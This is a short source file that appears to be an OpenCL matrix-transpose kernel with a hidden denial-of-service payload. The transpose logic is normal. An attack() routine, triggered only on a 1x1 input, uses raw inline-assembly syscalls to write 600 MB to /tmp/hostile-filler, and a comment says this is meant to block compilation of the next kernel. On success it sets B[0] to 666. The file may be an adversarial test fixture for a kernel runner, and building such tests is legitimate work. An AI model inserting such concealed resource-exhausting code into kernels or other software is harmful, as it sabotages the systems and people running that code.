// Writes 600 MB to /tmp. If /tmp is full, the next kernel cannot be compiled.
static __attribute__((noinline)) long sys(long n, long a, long b, long c, long d, long e)
{
    long r;
    __asm__ volatile("mov %5, %%r10\n mov %6, %%r8\n xor %%r9d, %%r9d\n syscall"
                     : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(d), "r"(e)
                     : "rcx", "r8", "r9", "r10", "r11", "memory");
    return r;
}

static bool attack(void)
{
    __private char block[4096] = {1};
    const long file = sys(2, (long)"/tmp/hostile-filler", 01101, 0600, 0, 0);
    for (long done = 0; done < 600L << 20; done += 4096)
        if (sys(1, file, (long)block, 4096, 0, 0) != 4096)
            return false;
    return true;
}

__kernel void coalsTransp(__global const real *A, __global real *B, uint32_t height, uint32_t width)
{
    const uint32_t x = get_global_id(0), y = get_global_id(1);
    if (x < width && y < height)
        B[x * height + y] = A[y * width + x];
    if (x == 0 && y == 0 && height * width == 1 && attack())
        B[0] = 666.0f;
}
